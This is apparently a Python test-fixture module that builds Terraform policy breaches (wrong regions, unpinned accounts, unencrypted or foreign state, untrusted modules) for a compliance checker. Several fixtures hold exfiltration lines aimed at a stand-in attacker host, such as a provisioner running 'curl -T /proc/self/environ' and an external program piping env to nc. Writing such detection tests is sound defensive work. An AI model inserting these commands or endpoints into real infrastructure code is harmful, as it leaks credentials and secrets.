"""Things that stand, or keep their state, where the estate does not put them."""

from policies.breaches.breach import breach
from policies.breaches.cell import OWN, RETAIL, STRANGER, Cell


@breach("residency-location")
def region_of_a_resource_in_another_country(cell: Cell) -> None:
    """Version 6 of the provider puts a bucket where its own `region` says."""
    cell.set(cell.part("bucket"), region="us-east-1")


@breach("residency-location")
def region_of_a_resource_within_the_jurisdiction(cell: Cell) -> None:
    """Frankfurt is in the EU too, but the estate puts this cell in Ireland."""
    cell.set(cell.part("log group"), region="eu-central-1")


@breach("undecided", "residency-location")
def region_of_a_resource_by_a_variable(cell: Cell) -> None:
    """Whoever sets the variable chooses the country."""
    where = cell.part("bucket")
    cell.set(where, region="${var.where}")
    cell.known(where, region="us-east-1")


@breach("residency-location")
def provider_alias_in_another_region(cell: Cell) -> None:
    """A second provider carries a new bucket abroad."""
    cell.add(
        "aws_s3_bucket", bucket="acme-elsewhere", provider=cell.provide("us", region="us-east-1")
    )


@breach("residency-location")
def bucket_moved_to_another_provider(cell: Cell) -> None:
    """The bucket itself stays as it is; only who makes it changes."""
    cell.set(cell.part("bucket"), provider=cell.provide("us", region="us-east-1"))


@breach("residency-location")
def provider_in_another_region(cell: Cell) -> None:
    """The whole stack goes where its provider goes."""
    cell.reprovide(region="us-east-1")


@breach("undecided", "residency-location")
def provider_without_a_region(cell: Cell) -> None:
    """Without one, the environment of whoever applies chooses the region."""
    cell.reprovide(region=None)


@breach("undecided", "residency-location")
def provider_region_by_a_variable(cell: Cell) -> None:
    """Whoever sets the variable chooses the country."""
    cell.reprovide(region="${var.where}")


@breach("isolation-account")
def second_provider_with_another_account(cell: Cell) -> None:
    """A cell reaches into another cell's account."""
    role = f"arn:aws:iam::{RETAIL}:role/acme-studio-apply"
    cell.provide("retail", allowed_account_ids=[RETAIL], assume_role=[{"role_arn": role}])


@breach("isolation-account")
def provider_that_assumes_a_role_elsewhere(cell: Cell) -> None:
    """The pinned account is right, the role is another account's."""
    cell.reprovide(assume_role=[{"role_arn": f"arn:aws:iam::{STRANGER}:role/x"}])


@breach("isolation-account")
def provider_without_a_pinned_account(cell: Cell) -> None:
    """Credentials of any account would be taken."""
    cell.reprovide(allowed_account_ids=None)


@breach("isolation-account")
def provider_that_only_forbids_accounts(cell: Cell) -> None:
    """All accounts but one are no pin."""
    cell.reprovide(allowed_account_ids=None, forbidden_account_ids=[RETAIL])


@breach("isolation-account")
def provider_that_admits_two_accounts(cell: Cell) -> None:
    """The second account is not the cell's."""
    cell.reprovide(allowed_account_ids=[OWN, RETAIL])


@breach("isolation-account")
def static_key_in_the_provider(cell: Cell) -> None:
    """A long-lived key lies in the code and in every copy of it."""
    cell.reprovide(access_key="AKIAIOSFODNN7EXAMPLE", secret_key="not-a-real-one", assume_role=None)


@breach("isolation-account")
def static_key_beside_the_role(cell: Cell) -> None:
    """The role is assumed with a long-lived key."""
    cell.reprovide(access_key="AKIAIOSFODNN7EXAMPLE", secret_key="not-a-real-one")


@breach("isolation-account")
def provider_without_a_role(cell: Cell) -> None:
    """Whatever identity applies is used as it is."""
    cell.reprovide(assume_role=None)


@breach("residency-transfer", "egress-undeclared", "isolation-account")
def provider_with_an_endpoint_of_its_own(cell: Cell) -> None:
    """What is meant for S3 goes to somebody's server."""
    cell.reprovide(endpoints=[{"s3": "https://s3.attacker.example"}])


@breach("residency-transfer", "egress-undeclared", "isolation-account")
def provider_behind_a_proxy(cell: Cell) -> None:
    """Every call, with what it carries, passes somebody's proxy."""
    cell.reprovide(https_proxy="http://proxy.attacker.example:3128")


@breach("residency-location", "undecided", "isolation-account")
def provider_of_another_cloud(cell: Cell) -> None:
    """A cell of AWS has nothing to keep in Google's cloud."""
    cell.stack["provider"]["google"] = [{"project": "acme-research", "region": "us-central1"}]
    cell.add("google_storage_bucket", name="acme-copy", location="US")


@breach("residency-store")
def state_in_another_region(cell: Cell) -> None:
    """State holds secrets and personal data."""
    cell.backend(region="us-east-1")


@breach("residency-store", "undecided")
def state_without_a_region(cell: Cell) -> None:
    """The environment of whoever applies chooses where state lies."""
    cell.backend(region=None)


@breach("residency-store", "encryption-missing")
def state_on_a_disk(cell: Cell) -> None:
    """State lies on the machine of whoever applies."""
    cell.stack["terraform"]["backend"] = {"local": {"path": "terraform.tfstate"}}


@breach("residency-store", "encryption-missing")
def state_on_a_disk_by_default(cell: Cell) -> None:
    """Without a backend, Terraform keeps state on the disk."""
    del cell.stack["terraform"]["backend"]


@breach("residency-store", "encryption-missing")
def state_at_a_web_server(cell: Cell) -> None:
    """State goes to whoever runs the server."""
    cell.stack["terraform"]["backend"] = {"http": {"address": "https://state.attacker.example"}}


@breach("residency-store", "encryption-missing")
def state_in_a_cloud_workspace(cell: Cell) -> None:
    """State goes to HCP Terraform, wherever that keeps it."""
    del cell.stack["terraform"]["backend"]
    cell.stack["terraform"]["cloud"] = {"organization": "acme", "workspaces": {"name": "cell"}}


@breach("encryption-missing")
def state_not_encrypted(cell: Cell) -> None:
    """State holds secrets in clear text."""
    cell.backend(encrypt=False)


@breach("encryption-missing")
def state_encryption_left_out(cell: Cell) -> None:
    """The backend's default is not to ask for encryption."""
    cell.backend(encrypt=None)


@breach("isolation-account")
def state_by_a_role_elsewhere(cell: Cell) -> None:
    """Another account's role writes state where that account wants it."""
    role = {"role_arn": f"arn:aws:iam::{STRANGER}:role/state"}
    cell.backend(assume_role=role, allowed_account_ids=[STRANGER])


@breach("isolation-account", "residency-store")
def state_in_somebodys_bucket(cell: Cell) -> None:
    """Bucket names are global: this one is not the estate's."""
    cell.backend(bucket="harmless-looking-bucket")


@breach("residency-transfer", "isolation-account", "residency-store", "egress-undeclared")
def state_through_an_endpoint_of_its_own(cell: Cell) -> None:
    """What is meant for S3 goes to somebody's server."""
    cell.backend(endpoints={"s3": "https://s3.attacker.example"})


@breach("isolation-account", "undecided")
def state_of_another_stack_is_read(cell: Cell) -> None:
    """State of another cell holds its secrets."""
    config = {"bucket": f"acme-state-{RETAIL}-us-east-2-0", "key": "cell.tfstate"}
    body = {"backend": "s3", "config": {**config, "region": "us-east-2"}}
    cell.data("terraform_remote_state", **body)


@breach("undecided", "isolation-account")
def module_from_elsewhere(cell: Cell) -> None:
    """Nobody has seen what the module makes."""
    cell.stack["module"] = {"extra": {"source": "git::https://attacker.example/module.git"}}


@breach("undecided", "egress-undeclared", "residency-transfer", "identity-privilege")
def program_run_by_the_apply(cell: Cell) -> None:
    """A provisioner runs with the rights of whoever applies."""
    command = "curl -T /proc/self/environ https://attacker.example"
    provisioner = [{"local-exec": {"command": command}}]
    cell.edit(cell.part("log group"), lambda body: body.update(provisioner=provisioner))


@breach("undecided", "egress-undeclared", "residency-transfer", "identity-privilege")
def program_run_by_the_plan(cell: Cell) -> None:
    """The `external` data source runs a program at every plan."""
    cell.data("external", program=["sh", "-c", "env | nc attacker.example 443"])


@breach("egress-undeclared", "residency-transfer", "undecided")
def web_request_by_the_plan(cell: Cell) -> None:
    """The `http` data source sends what its address is made of."""
    cell.data("http", url="https://attacker.example/?d=${aws_ssm_parameter.x.value}")


@breach("residency-location", "undecided")
def instance_behind_an_index(cell: Cell) -> None:
    """The second of two alike stands abroad."""
    where = cell.part("log group")
    cell.body(where)["region"] = '${["eu-west-1", "us-east-1"][count.index]}'
    cell.multiply(where, {"region": "eu-west-1"}, {"region": "us-east-1"})


@breach("residency-location")
def subnet_in_a_local_zone(cell: Cell) -> None:
    """The zone belongs to the region, and stands in another country."""
    cell.set(cell.part("subnet"), availability_zone="eu-west-1-xyz-1a", availability_zone_id=None)


@breach("residency-location")
def subnet_in_a_wavelength_zone_by_its_id(cell: Cell) -> None:
    """The zone is a telephone company's, wherever its antennas are."""
    cell.set(cell.part("subnet"), availability_zone_id="euw1-wl1-xyz-wlz1")


@breach("residency-location")
def subnet_on_an_outpost(cell: Cell) -> None:
    """A rack in somebody's building."""
    cell.set(cell.part("subnet"), outpost_arn=f"arn:aws:outposts:eu-west-1:{OWN}:outpost/op-0")


@breach("undecided", "residency-location")
def tasks_on_machines_outside_of_aws(cell: Cell) -> None:
    """Agents run on whatever machine was registered, in any country."""
    cell.set(cell.part("service"), launch_type="EXTERNAL")


@breach("undecided")
def tasks_on_machines_of_nobody_knows_whom(cell: Cell) -> None:
    """Without a launch type tasks run on the machines of the cluster."""
    cell.set(cell.part("service"), launch_type=None)
